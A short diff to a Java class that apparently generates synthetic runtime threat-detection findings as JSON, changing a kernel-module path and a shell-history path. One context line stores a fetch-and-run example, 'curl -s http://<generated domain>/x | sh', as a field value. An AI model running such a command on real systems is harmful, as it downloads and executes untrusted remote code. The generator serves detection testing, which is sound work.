@@ -86,7 +86,7 @@ final class RuntimeBlock {
       json.text("libraryPath", "/tmp/lib" + dice.alphanumeric(5) + ".so");
       json.text("ldPreloadValue", "/tmp/lib" + dice.alphanumeric(5) + ".so");
     } else if (type.contains("KernelModule")) {
-      json.text("moduleName", "diag").text("moduleFilePath", "/root/diag.ko");
+      json.text("moduleName", "diag").text("moduleFilePath", "/opt/diag.ko");
       json.text("moduleSha256", dice.hex(64));
     } else if (type.contains("Mounts")) {
       json.text("mountSource", "/dev/nvme0n1p1").text("mountTarget", "/host");
@@ -99,7 +99,7 @@ final class RuntimeBlock {
       json.text("toolName", "nmap").text("toolCategory", "Reconnaissance");
     } else if (type.contains("Command")) {
       json.text("commandLineExample", "curl -s http://" + scene.domain() + "/x | sh");
-      json.text("serviceName", "cron").text("shellHistoryFilePath", "/root/.bash_history");
+      json.text("serviceName", "cron").text("shellHistoryFilePath", "/home/ubuntu/.bash_history");
     } else if (type.contains("MaliciousFile")) {
       json.text("threatFilePath", "/tmp/" + dice.alphanumeric(8));
       json.text("fileOperation", "EXECUTE").text("filePath", "/tmp/" + dice.alphanumeric(8));
